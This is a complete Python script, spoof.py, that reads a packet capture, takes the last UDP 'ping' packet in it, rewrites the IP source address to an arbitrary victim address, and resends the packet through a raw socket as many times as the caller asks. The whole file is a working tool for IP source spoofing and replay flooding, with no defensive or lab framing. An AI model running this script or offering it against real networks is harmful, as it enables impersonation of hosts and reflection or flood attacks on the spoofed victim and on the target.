#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""spoof.py CAPTURE SOURCE COUNT: sends the last ping in a capture again and again, as if it came from SOURCE."""
import socket
import struct
import sys
import time

data = open(sys.argv[1], "rb").read()
at, ping = 24, None
while at < len(data):
    length, = struct.unpack_from("<I", data, at + 8)
    packet = data[at + 16 + 14:at + 16 + length]  # behind the Ethernet header
    if packet[28:29] == b"\x01":
        ping = packet
    at += 16 + length
assert ping, "no ping in the capture"
forged = bytearray(ping)
forged[12:16] = socket.inet_aton(sys.argv[2])
forged[26:28] = b"\0\0"  # no UDP checksum
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for i in range(int(sys.argv[3])):
    raw.sendto(bytes(forged), (socket.inet_ntoa(bytes(ping[16:20])), 0))
    if i % 10 == 0:
        time.sleep(0.001)
